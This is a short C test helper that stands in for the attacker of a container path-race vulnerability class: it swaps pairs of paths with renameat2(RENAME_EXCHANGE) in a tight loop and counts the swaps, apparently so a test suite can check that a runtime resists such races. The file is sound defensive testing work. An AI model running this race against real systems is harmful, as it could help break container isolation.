/* Test helper (static, to run inside a busybox root too): the attacker of
 * CVE-2025-31133's class. Exchanges each pair of paths with
 * renameat2(RENAME_EXCHANGE) in a tight loop, until the stop file exists
 * or 120 s have passed, then prints how many exchanges it made.
 * usage: swapper STOPFILE A1 B1 [A2 B2 ...] */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int expired(time_t end, const char *stop)
{
	return time(NULL) >= end || access(stop, F_OK) == 0;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + 120;
	unsigned long swaps = 0, refused = 0;

	if (argc < 4 || (argc - 2) % 2) {
		fprintf(stderr, "usage: swapper STOPFILE A1 B1 [A2 B2 ...]\n");
		return 2;
	}
	while (!expired(end, argv[1])) {
		for (int i = 2; i + 1 < argc; i += 2) {
			/* Each pair twice, so it ends up as it began. */
			for (int k = 0; k < 2; k++) {
				if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1],
					      RENAME_EXCHANGE) == 0)
					swaps++;
				else
					refused++;
			}
		}
	}
	printf("swaps %lu refused %lu\n", swaps, refused);
	return 0;
}
